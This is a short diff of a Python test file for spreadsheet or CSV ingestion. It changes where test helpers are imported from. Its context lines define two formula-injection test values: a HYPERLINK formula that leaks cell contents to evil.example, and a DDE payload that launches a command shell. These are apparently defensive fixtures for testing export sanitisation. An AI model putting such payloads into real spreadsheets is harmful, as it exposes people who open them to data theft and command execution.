@@ -11,7 +11,8 @@ import zipfile
 from pathlib import Path
 
 import xlsxwriter
-from test_ingest_helpers import ENROLMENT, H1, H2, H3, JOBS, client, job, write_csv
+
+from support.deliveries import ENROLMENT, H1, H2, H3, JOBS, client, job, write_csv
 
 FORMULA_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 FORMULA_COACH = "@SUM(1+1)*cmd|' /C calc'!A0"
